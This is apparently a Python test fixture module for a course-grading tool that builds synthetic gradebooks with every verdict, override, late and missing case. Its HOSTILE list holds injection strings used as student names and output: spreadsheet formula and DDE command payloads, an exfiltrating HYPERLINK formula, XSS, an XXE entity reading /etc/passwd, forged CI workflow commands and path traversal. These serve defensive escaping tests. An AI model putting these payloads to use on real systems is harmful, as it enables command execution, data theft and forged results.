"""Graded classes for tests: every verdict, overrides, faults, the missing, the late, the hostile.

`everything()` is small and has it all. `class_of(n)` looks like a real class and is as large as one
likes: a row is made when it is asked for, and is the same one every time.
"""

from __future__ import annotations

import random
from collections.abc import Callable, Iterator, Mapping, Sequence
from typing import Any

from gdl_check.course import load_chapter
from gdl_check.grade.gradebook import (
    FAULT,
    MISSING,
    Asked,
    AskedChapter,
    Gradebook,
    Mark,
    Row,
    Student,
)

GRADED_AT = 1_780_000_000.0  # 2026-05-28, 20:26:40 UTC
DUE = GRADED_AT - 86_400.0
SEED = 20_260_528
VERDICTS = ("passed", "not_started", "failed", "timeout", "error")

# What somebody may call themselves, or make their code say.
HOSTILE = (
    "=1+1",
    "+49 30 1234",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    ' "=1+1"',
    "'=1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1",
    "\uff20SUM(A1)",
    '=HYPERLINK("http://example.invalid/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "DDE;x;=1\n=1+1",
    'Quote "Comma", Line\r\nBreak; Semicolon',
    "<script>alert(1)</script>",
    "</script><img src=x onerror=alert(1)>",
    "&amp;]]>&#0;<![CDATA[",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
    "::error file=x::forged",
    "%0A::set-output name=result::forged",
    "\n::stop-commands::x",
    "EOF\nresult=forged",
    "# heading\n\n[a link](javascript:alert(1)) | cell | `code`\n```\nfence",
    "\x00nul\x07bell\x1b[2Jclears\x7f\x85\x9b31m",
    "\u202egnp.exe\u202c \u2066isolated\u2069",
    "caf\u00e9, cafe\u0301, \u5f20\u4f1f, \U0001f600, \u2028\u2029",
    "caf\udce9 from a file name that is no UTF-8, \ud83d alone",
    "\ufffe\uffff\ufdd0",
    "../../etc/passwd",
    "CON",
    "NaN",
    "1e999",
    "",
    " ",
    "x" * 10_000,
    "\u00e4\u00df\u20ac" * 4_000,
)


def chapters(*names: str) -> tuple[AskedChapter, ...]:
    """Chapters of the course as an assignment asks them: 1, 2 or 2.5 points an exercise."""
    found = [load_chapter(name) for name in names or ("ch05", "ch06")]
    return tuple(
        AskedChapter(
            chapter.id,
            chapter.title,
            tuple(
                Asked(chapter.exercise_id(name), name, (1.0, 2.0, 2.5)[i % 3])
                for i, name in enumerate(chapter.exercises)
            ),
        )
        for chapter in found
    )


def gradebook(
    rows: Callable[[], Iterator[Row]], asked: tuple[AskedChapter, ...], **more: Any
) -> Gradebook:
    """A gradebook of these rows; anything else about it can be said by name."""
    known: dict[str, Any] = {
        "assignment": "Homework 3: backpropagation",
        "run": "2026-05-28T20:26:40Z-1f3a",
        "chapters": asked,
        "rows": rows,
        "seed": SEED,
        "effort": "normal",
        "version": "0.1.0",
        "level": 2,
        "sandbox": ("rlimits", "seccomp"),
        "missing_sandbox": ("Landlock",),
        "graded_at": GRADED_AT,
        "due": DUE,
    }
    return Gradebook(**(known | more))


def told(
    exercise: str, verdict: str, text: str = "it is not so", named: str = ""
) -> dict[str, Any]:
    """An exercise as `--json` tells it; `text` stands wherever the learner's code has a say."""
    chapter, _, name = exercise.partition(".")
    asked = load_chapter(chapter).exercises[name]
    said: dict[str, Any] = {"id": exercise, "name": name, "status": verdict, "line": 41}
    said |= {"supplied": [], "laws": []}
    if verdict == "not_started":
        return said
    said["corpus"] = "ec63b4a937025c3d" * 4
    for law in asked.laws:
        said["laws"].append({"claim": law.claim, "kind": "own", "status": "passed", "cases": 60})
    if verdict == "passed":
        return said
    said["laws"][-1] |= {
        "status": verdict,
        "counterexample": {
            "case": "3f9ac021",
            "call": f"{name}({text or None!r})",
            "inputs": {"x": {"type": "text", "data": text}},
            "message": text or "it is not so",
        },
    }
    if verdict == "failed":
        said["laws"][-1]["counterexample"] |= {
            "expected": {"type": "array", "shape": [1], "dtype": "float64", "data": [0.0]},
            "got": {"type": "text", "data": text},
        }
        for wrong in asked.misconceptions:
            if wrong.name == named:
                says = {"name": wrong.name, "says": wrong.says, "matched": 5, "of": 5}
                said["misconception"] = says
    else:
        kind = "Timeout" if verdict == "timeout" else "ValueError"
        said["error"] = {"type": kind, "message": text, "line": 44}
    if text:
        said["stdout"] = text
    return said


def screen(exercise: str, text: str) -> str:
    """A failure as a terminal shows it: one that is not printable arrives as `?`."""
    name = exercise.partition(".")[2]
    shown = "".join(c if c.isprintable() else "?" for c in text)
    claim = f"  Does not hold: {name} is what it should be."
    return "\n".join([claim, "", *(f"    {shown[i : i + 70]}" for i in range(0, len(shown), 70))])


def mark(exercise: str, verdict: str, text: str = "it is not so", **more: Any) -> Mark:
    """A mark of this verdict; the rest can be said by name."""
    if verdict == MISSING:
        return Mark(exercise, verdict, 0.0)._replace(**more)
    receipt = {"answer": "9f" * 32, "hmac": "ab" * 32, "seed": SEED}
    if verdict == FAULT:
        return Mark(exercise, verdict, None, receipt=receipt)._replace(**more)
    is_wrong = verdict in ("failed", "timeout", "error")
    return Mark(
        exercise,
        verdict,
        1.0 if verdict == "passed" else 0.0,
        told=told(exercise, verdict, text),
        screen=screen(exercise, text) if is_wrong else "",
        receipt=receipt,
    )._replace(**more)


def row(key: str, marks: Mapping[str, Mark], asked: Sequence[AskedChapter], **more: Any) -> Row:
    """A student's row; whatever is not among the marks has passed."""
    ids = [exercise.id for chapter in asked for exercise in chapter.exercises]
    student = Student(key, key.title(), f"{key}@example.edu", f"s{len(key):06}")
    known: dict[str, Any] = {"place": key, "handed_in": DUE - 3_600.0}
    known["marks"] = {id: marks.get(id) or mark(id, "passed") for id in ids}
    return Row(student, "graded")._replace(**(known | more))


def everything(**more: Any) -> Gradebook:
    """A class in which everything happens that can happen."""
    asked = chapters()
    ids = [exercise.id for chapter in asked for exercise in chapter.exercises]
    first, second, third, last = *ids[:3], ids[-1]
    every = {id: mark(id, VERDICTS[i % 5]) for i, id in enumerate(ids)}
    lost = {id: mark(id, MISSING) for id in ids}
    overridden = {
        first: mark(first, "failed", override=0.5, reason="right, but for a name; see my mail"),
        second: mark(second, "passed", override=0.0, reason="not their own work"),
        third: mark(third, "passed", override=7.25, reason="went far beyond what was asked"),
    }
    shared = {id: mark(id, "passed", credit=1 / 3) for id in ids}
    late = {id: mark(id, "passed", credit=0.8) for id in ids}
    in_doubt = {first: mark(first, FAULT), last: mark(last, "failed")}
    settled = {first: mark(first, FAULT, override=1.0, reason="read by hand")}
    rows = [
        row("ana", {}, asked),
        row("ben", every, asked, notes=("ch05 was found in backprop_final.py",)),
        row("cem", shared, asked),
        row("dora", late, asked, late=True, handed_in=DUE + 7_200.5),
        row("emil", lost, asked, state=MISSING, place="", handed_in=None),
        row("fay", in_doubt, asked, state=FAULT, notes=("the sandbox ended under us",)),
        row("gus", settled, asked),
        row("hana", overridden, asked),
        row(
            "ivo", lost | {first: lost[first]._replace(override=1.0, reason="was ill")}, asked
        )._replace(state=MISSING, handed_in=None),
    ]
    rows += [_hostile(i, text, asked) for i, text in enumerate(HOSTILE)]
    rows.sort(key=lambda row: row.student.key)
    return gradebook(lambda: iter(rows), asked, **more)


def _hostile(i: int, text: str, asked: Sequence[AskedChapter]) -> Row:
    """Somebody who means no good: the text stands wherever they have a say."""
    ids = [exercise.id for chapter in asked for exercise in chapter.exercises]
    marks = {id: mark(id, VERDICTS[(i + n) % 5], text) for n, id in enumerate(ids)}
    marks[ids[1]] = marks[ids[1]]._replace(override=1.0, reason=text)
    student = Student(f"{text} {i:02}", text, text, text)
    # Sealed by their places: keys tell people apart, however they look.
    return row("", marks, asked, student=student, place=text, notes=(text,))


FIRST = "Ana Ben Chloë Dmitri Elif Fatou Gökçe Hiro Ines Jürgen Kofi Lan María Noor Øyvind"
LAST = "Abebe Brandt Çelik Diaz Eriksen Fofanah García Huang Ito Jansen Kaya Lê Müller"


def class_of(size: int, seed: int = 0, **more: Any) -> Gradebook:
    """A class as classes are: most get far, some get stuck, few hand in nothing."""
    asked = chapters("ch06")
    return gradebook(
        lambda: (_somebody(i, seed, asked) for i in range(size)),
        asked,
        **(
            {"level": 3, "sandbox": ("rlimits", "seccomp", "Landlock"), "missing_sandbox": ()}
            | more
        ),
    )


def _somebody(i: int, seed: int, asked: Sequence[AskedChapter]) -> Row:
    draw = random.Random(f"{seed}:{i}")
    name = f"{draw.choice(FIRST.split())} {draw.choice(LAST.split())}"
    key = f"s{i:05}"
    student = Student(key, name, f"{key}@example.edu", f"{4_000_000 + i}")
    ids = [exercise.id for chapter in asked for exercise in chapter.exercises]
    if draw.random() < 0.04:
        nothing = {id: mark(id, MISSING) for id in ids}
        return Row(student, MISSING, marks=nothing)
    is_late = draw.random() < 0.06
    handed_in = DUE + (draw.uniform(60, 90_000) if is_late else -draw.expovariate(1 / 40_000))
    ability = draw.gauss(1.6, 1.2)
    marks = {}
    for n, id in enumerate(ids):
        marks[id] = _some_mark(id, ability - 2.2 * n / len(ids), draw)
        if is_late and marks[id].credit:
            marks[id] = marks[id]._replace(credit=0.8)
    if draw.random() < 0.02:
        chosen = draw.choice(ids)
        marks[chosen] = marks[chosen]._replace(override=1.0, reason="read by hand")
    is_fault = draw.random() < 0.01
    if is_fault:
        marks[ids[-1]] = mark(ids[-1], FAULT)
    state = FAULT if is_fault else "graded"
    return Row(student, state, f"{key}_{name}", handed_in, is_late, (), marks)


def _some_mark(id: str, ease: float, draw: random.Random) -> Mark:
    """A mark as likely to be right as this is easy: holding a misconception, where it is not."""
    if draw.gauss(0, 0.7) < ease:
        return mark(id, "passed")
    verdict = draw.choices(VERDICTS[1:], (25, 60, 4, 11))[0]
    chapter, _, name = id.partition(".")
    wrong = load_chapter(chapter).exercises[name].misconceptions
    if verdict != "failed" or not wrong or draw.random() < 0.35:
        return mark(id, verdict)
    # The ones that are named first are held most.
    named = draw.choices(wrong, [1 / (n + 1) ** 2 for n in range(len(wrong))])[0].name
    return mark(id, verdict, told=told(id, verdict, named=named))
